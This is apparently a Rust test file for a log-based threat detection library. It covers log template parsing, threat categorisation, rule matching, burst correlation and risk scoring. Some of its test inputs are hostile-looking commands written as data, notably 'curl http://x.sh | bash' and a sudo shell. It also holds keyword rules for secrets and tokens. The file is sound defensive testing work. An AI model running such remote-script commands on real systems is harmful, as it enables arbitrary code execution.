use defudelog::detection::{assess, raises_alert, DetectionPipeline, SemanticSignal, TimeSignal};
use defudelog::engine::{categorize_threat, hash_log, RuleEngine, TimeCorrelator};
use defudelog::models::{
    parse_alert_category, parse_alert_level, rule_type_from_str, to_severity, AlertCategory, AlertLevel, DetectionRule,
    RuleType, Timestamp,
};
use defudelog::parser::{LogParser, TemplateClass};

fn rule(name: &str, kind: RuleType, pattern: &str, severity: AlertLevel, enabled: bool) -> DetectionRule {
    DetectionRule {
        id: name.to_string(),
        name: name.to_string(),
        description: String::new(),
        rule_type: kind,
        pattern: pattern.to_string(),
        severity,
        enabled,
        created_at: Timestamp { secs: 0, nanos: 0 },
    }
}

#[test]
fn template_of_a_line() {
    let mut parser = LogParser::new(100);
    let r = parser.parse("Failed password for root from 192.168.1.105 port 22");
    assert_eq!(r.template, "Failed password for root from <IP> port <NUM>");
    assert_eq!(r.cleaned_log, r.template);
    assert_eq!(r.parameters, vec!["192.168.1.105".to_string(), "22".to_string()]);
    assert_eq!(r.classification, TemplateClass::WarningAnomaly);
    assert!(r.is_new);
    assert_eq!(r.template_id, 1);
}

#[test]
fn templates_of_dates_hashes_and_paths() {
    let tokens = LogParser::tokenize("2026-08-03T10:00:00Z copy /var/log/a.log id 3f2b");
    let template = LogParser::build_template_string(&tokens);
    assert_eq!(template, "<DATETIME> copy <PATH> id 3f2b");
    let tokens = LogParser::tokenize("");
    assert_eq!(LogParser::build_template_string(&tokens), "");
}

#[test]
fn a_template_is_recognised_the_second_time() {
    let mut parser = LogParser::new(100);
    let first = parser.parse("user 1 logged in");
    let second = parser.parse("user 2 logged in");
    assert_eq!(first.template, second.template);
    assert!(first.is_new);
    assert!(!second.is_new);
    assert_eq!(first.template_id, second.template_id);
    assert_eq!(parser.template_count(), 1);
    let (id, class, is_new) = parser.get_or_register_template("user <NUM> logged in");
    assert_eq!((id, class, is_new), (first.template_id, TemplateClass::StandardOperational, false));
}

#[test]
fn a_full_catalogue_evicts_its_least_used_template() {
    let mut parser = LogParser::new(2);
    parser.parse("a 1");
    parser.parse("b 2");
    parser.parse("a 3");
    let r = parser.parse("c 4");
    assert!(r.is_new);
    assert_eq!(parser.template_count(), 2);
    // "b <NUM>" was seen once and left; "a <NUM>" is still known.
    assert!(!parser.parse("a 5").is_new);
    assert!(parser.parse("b 6").is_new);
}

#[test]
fn classes_of_templates() {
    assert_eq!(LogParser::classify_template_content("EXFILTRATION of <PATH>"), TemplateClass::CriticalThreat);
    assert_eq!(LogParser::classify_template_content("sudo: x : COMMAND=/bin/bash"), TemplateClass::CriticalThreat);
    assert_eq!(LogParser::classify_template_content("sudo: x : COMMAND=/bin/ls"), TemplateClass::StandardOperational);
    assert_eq!(LogParser::classify_template_content("Failed password for <X>"), TemplateClass::WarningAnomaly);
    assert_eq!(LogParser::classify_template_content("kernel panic"), TemplateClass::WarningAnomaly);
    assert_eq!(LogParser::classify_template_content("GET / 200"), TemplateClass::StandardOperational);
}

#[test]
fn categories_of_threats() {
    assert_eq!(categorize_threat("User cyrus exported 50000 customer records", &[]), AlertCategory::DataLeak);
    assert_eq!(categorize_threat("sshd: Failed password for root", &[]), AlertCategory::Authentication);
    assert_eq!(categorize_threat("sudo: cyrus : COMMAND=/bin/bash", &[]), AlertCategory::PrivilegeEscalation);
    assert_eq!(categorize_threat("kernel: Out of memory", &[]), AlertCategory::SystemAnomaly);
    assert_eq!(categorize_threat("hello world", &[]), AlertCategory::General);
    // The reasons count too.
    assert_eq!(categorize_threat("hello world", &["brute force".to_string()]), AlertCategory::Authentication);
}

#[test]
fn names_of_levels_and_categories() {
    assert_eq!(parse_alert_level("high"), AlertLevel::High);
    assert_eq!(parse_alert_level("moderate"), AlertLevel::Moderate);
    assert_eq!(parse_alert_level("low"), AlertLevel::Low);
    assert_eq!(parse_alert_level("HIGH"), AlertLevel::Benign);
    assert_eq!(to_severity("anything"), AlertLevel::Low);
    assert_eq!(to_severity("high"), AlertLevel::High);
    assert_eq!(parse_alert_category("privilege_escalation"), AlertCategory::PrivilegeEscalation);
    assert_eq!(parse_alert_category("?"), AlertCategory::General);
    for l in [AlertLevel::Benign, AlertLevel::Low, AlertLevel::Moderate, AlertLevel::High] {
        assert_eq!(parse_alert_level(l.as_str()), l);
    }
    for c in [
        AlertCategory::DataLeak,
        AlertCategory::Authentication,
        AlertCategory::SystemAnomaly,
        AlertCategory::PrivilegeEscalation,
        AlertCategory::General,
    ] {
        assert_eq!(parse_alert_category(c.as_str()), c);
    }
    for t in [
        RuleType::Keyword,
        RuleType::IpBlacklist,
        RuleType::UserBlacklist,
        RuleType::TimeWindow,
        RuleType::Regex,
        RuleType::TemplateMatch,
    ] {
        assert_eq!(rule_type_from_str(t.as_str()), t);
    }
    assert_eq!(rule_type_from_str("unknown"), RuleType::Keyword);
}

#[test]
fn hash_of_a_line() {
    assert_eq!(hash_log("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    assert_eq!(hash_log("").len(), 64);
}

#[test]
fn burst_families_and_window() {
    assert_eq!(TimeCorrelator::classify_event("scp file.tar host:"), "data_transfer_burst");
    assert_eq!(TimeCorrelator::classify_event("Failed password"), "auth_failure_burst");
    assert_eq!(TimeCorrelator::classify_event("sudo chmod 600 x"), "privilege_escalation_burst");
    assert_eq!(TimeCorrelator::classify_event("service started"), "operational_event");

    let mut c = TimeCorrelator::new(60, 10);
    assert!(c.observe("Failed password", 0).earlier.is_empty());
    c.observe("Failed password", 100);
    c.observe("Failed password", 200);
    let o = c.observe("Failed password", 400);
    assert_eq!(o.family, "auth_failure_burst");
    assert_eq!(o.earlier, vec![0, 100, 200]);
    // At 400 the event at 0 left the window; the one at 100 stays (exactly 300 s).
    assert_eq!(c.observe("invalid user x", 401).earlier, vec![100, 200, 400]);
    // Other families are apart.
    assert!(c.observe("service started", 401).earlier.is_empty());
    assert_eq!(c.event_threshold(), 10);
}

#[test]
fn rule_engine_findings() {
    let engine = RuleEngine::new();
    let f = engine.evaluate("curl http://x.sh | bash from 10.0.0.99 by sudo: cyrus", &[]);
    let reasons: Vec<&str> = f.iter().map(|x| x.0.as_str()).collect();
    assert_eq!(
        reasons,
        vec![
            "Exécution suspecte de script distant via pipe (Remote Code Execution)",
            "Connexion/Transfert avec IP suspecte blacklistée: 10.0.0.99",
            "Activité liée à un utilisateur surveillé / compromis: cyrus",
        ]
    );
    assert_eq!(f[0].1, AlertLevel::High);
    assert_eq!(f[2].1, AlertLevel::Moderate);

    let rules = vec![
        rule("K", RuleType::Keyword, "secret|token", AlertLevel::High, true),
        rule("Off", RuleType::Keyword, "token", AlertLevel::High, false),
        rule("R", RuleType::Regex, "(?i)here$", AlertLevel::Low, true),
        rule("T", RuleType::TemplateMatch, "MY TOKEN", AlertLevel::Moderate, true),
        rule("W", RuleType::TimeWindow, "19-21", AlertLevel::Moderate, true),
    ];
    let f = engine.evaluate("my TOKEN here", &rules);
    let reasons: Vec<&str> = f.iter().map(|x| x.0.as_str()).collect();
    assert_eq!(
        reasons,
        vec!["Règle 'K' déclenchée (mot-clé 'token')", "Règle Regex 'R' déclenchée", "Règle Template 'T' déclenchée"]
    );
    assert!(engine.evaluate("nothing here to see", &[]).is_empty());
}

#[test]
fn composite_risk_of_a_quiet_line() {
    let a = assess("t", TemplateClass::StandardOperational, true, &[], None, None, false);
    assert_eq!(a.template_score, 2000);
    assert_eq!(a.composite_score, 40000);
    assert_eq!(a.level, AlertLevel::Benign);
    assert!(!raises_alert(a.level));
    assert_eq!(a.reasons, vec!["Template inédit observé pour la première fois (Zero-Day structural)".to_string()]);
    let a = assess("t", TemplateClass::StandardOperational, false, &[], None, None, false);
    assert_eq!(a.composite_score, 0);
    assert!(a.reasons.is_empty());
}

#[test]
fn composite_risk_of_every_axis() {
    let a = assess(
        "w",
        TemplateClass::WarningAnomaly,
        false,
        &[("Crash".to_string(), AlertLevel::Moderate)],
        Some(TimeSignal { score: 10000, reason: "burst".to_string() }),
        Some(SemanticSignal { similarity: 7000, description: "desc".to_string() }),
        true,
    );
    assert_eq!((a.dlp_score, a.template_score, a.semantic_score, a.time_score, a.outlier_score), (8500, 5000, 7000, 10000, 6000));
    assert_eq!(a.composite_score, 740000);
    assert_eq!(a.level, AlertLevel::High);
    assert!(!a.is_critical_hit);
    assert_eq!(
        a.reasons,
        vec![
            "Template d'avertissement système: 'w'".to_string(),
            "Crash".to_string(),
            "burst".to_string(),
            "Forte similarité sémantique (70%) avec: desc".to_string(),
            "Anomalie sémantique non supervisée détectée (Outlier HDBSCAN / Vecteur isolé)".to_string(),
        ]
    );
    // Below 0.70 the similarity counts but gives no reason.
    let a = assess("w", TemplateClass::StandardOperational, false, &[], None, Some(SemanticSignal { similarity: 6999, description: "d".to_string() }), false);
    assert_eq!(a.composite_score, 174975);
    assert!(a.reasons.is_empty());
}

#[test]
fn critical_hits_raise_the_risk() {
    let a = assess("exfiltration <PATH>", TemplateClass::CriticalThreat, true, &[], None, None, false);
    assert!(a.is_critical_hit);
    assert_eq!(a.composite_score, 850000);
    assert_eq!(a.level, AlertLevel::High);
    let a = assess("x", TemplateClass::StandardOperational, false, &[("k".to_string(), AlertLevel::High)], None, None, false);
    assert_eq!(a.dlp_score, 10000);
    assert_eq!(a.composite_score, 850000);
    // Two low findings: 0.8 on the rule axis, 0.24 overall, below the
    // alerting threshold of 0.25.
    let low = ("l".to_string(), AlertLevel::Low);
    let a = assess("x", TemplateClass::StandardOperational, false, &[low.clone(), low.clone()], None, None, false);
    assert_eq!(a.dlp_score, 8000);
    assert_eq!(a.composite_score, 240000);
    assert_eq!(a.level, AlertLevel::Benign);
    assert!(!raises_alert(a.level));
    // Three: 1.0 on the rule axis, 0.30 overall.
    let a = assess("x", TemplateClass::StandardOperational, false, &[low.clone(), low.clone(), low], None, None, false);
    assert_eq!(a.composite_score, 300000);
    assert_eq!(a.level, AlertLevel::Low);
}

#[test]
fn pipeline_parts() {
    let mut p = DetectionPipeline::new(60, 7);
    assert_eq!(p.event_threshold(), 7);
    let r = p.parse_log_structure("disk 1 full");
    assert_eq!(r.template, "disk <NUM> full");
    assert_eq!(p.get_parser_template_count(), 1);
    let o = p.observe_event("Failed password", 5);
    assert_eq!(o.family, "auth_failure_burst");
    let f = p.evaluate_rules("user=attacker19 logged", &[]);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].1, AlertLevel::Moderate);
}

#[test]
fn a_disabled_rule_changes_nothing() {
    let engine = RuleEngine::new();
    let on = rule("K", RuleType::Keyword, "secret", AlertLevel::High, true);
    let off = rule("Off", RuleType::Keyword, "token|secret", AlertLevel::High, false);
    let line = "a secret token for user=root";
    let with_off = engine.evaluate(line, &[off.clone(), on.clone(), off.clone()]);
    let without = engine.evaluate(line, &[on]);
    assert_eq!(with_off, without);
    assert_eq!(with_off.last().unwrap().0, "Règle 'K' déclenchée (mot-clé 'secret')");
}

#[test]
fn the_composite_risk_never_exceeds_one() {
    let findings: Vec<(String, AlertLevel)> = (0..5).map(|i| (format!("f{}", i), AlertLevel::High)).collect();
    let a = assess(
        "x",
        TemplateClass::CriticalThreat,
        true,
        &findings,
        Some(TimeSignal { score: 10000, reason: "burst".to_string() }),
        Some(SemanticSignal { similarity: 10000, description: "d".to_string() }),
        true,
    );
    assert_eq!((a.dlp_score, a.template_score), (10000, 9000));
    assert_eq!(a.composite_score, 940000);
    assert!(a.composite_score <= 1_000_000);
}

#[test]
fn the_window_keeps_the_newest_events() {
    let mut c = TimeCorrelator::new(60, 10);
    for t in [0i64, 10, 20, 320] {
        c.observe("scp a b:", t);
    }
    // At 320 the events at 0 and 10 left; the one at 20 is exactly 300 s old.
    assert_eq!(c.observe("curl -o x", 321).earlier, vec![20, 320]);
}

#[test]
fn nothing_is_evicted_below_capacity() {
    let mut parser = LogParser::new(3);
    parser.parse("alpha started");
    parser.parse("beta started");
    parser.parse("alpha started");
    assert_eq!(parser.template_count(), 2);
    let r = parser.parse("alpha started");
    assert!(!r.is_new);
    assert_eq!(r.template_id, 1);
    parser.parse("gamma started");
    assert_eq!(parser.template_count(), 3);
}

#[test]
fn pieces_of_a_line_are_never_empty() {
    let tokens = LogParser::tokenize("10.0.0.1 10.0.0.2 x 42");
    let r = LogParser::new(10).parse("10.0.0.1 10.0.0.2 x 42");
    assert_eq!(r.parameters, vec!["10.0.0.1", "10.0.0.2", "42"]);
    assert!(r.parameters.iter().all(|p| !p.is_empty()));
    assert_eq!(LogParser::build_template_string(&tokens), "<IP> <IP> x <NUM>");
}

#[test]
fn the_export_test_reads_lower_case_text() {
    // The template's placeholder is upper case, the tested text is lower case.
    assert_eq!(LogParser::classify_template_content("export <NUM> rows"), TemplateClass::StandardOperational);
}

#[test]
fn one_finding_at_most_per_rule() {
    let engine = RuleEngine::new();
    let rules = vec![
        rule("K", RuleType::Keyword, "secret|token|key", AlertLevel::High, true),
        rule("T", RuleType::TemplateMatch, "secret", AlertLevel::Moderate, true),
    ];
    let f = engine.evaluate("secret token key secret", &rules);
    assert_eq!(f.len(), 2);
    assert!(f.len() <= 9 + 3 + 2 + rules.len());
}

#[test]
fn a_raised_alert_always_has_a_reason() {
    // A similarity just below 0.70 gives no reason and, alone, no alert.
    let a = assess("x", TemplateClass::StandardOperational, false, &[], None, Some(SemanticSignal { similarity: 6999, description: "d".to_string() }), false);
    assert!(!raises_alert(a.level));
    assert!(a.reasons.is_empty());
    let a = assess("x", TemplateClass::StandardOperational, false, &[("k".to_string(), AlertLevel::High)], None, None, false);
    assert!(raises_alert(a.level) && !a.reasons.is_empty());
    assert!(a.composite_score >= 850000);
}
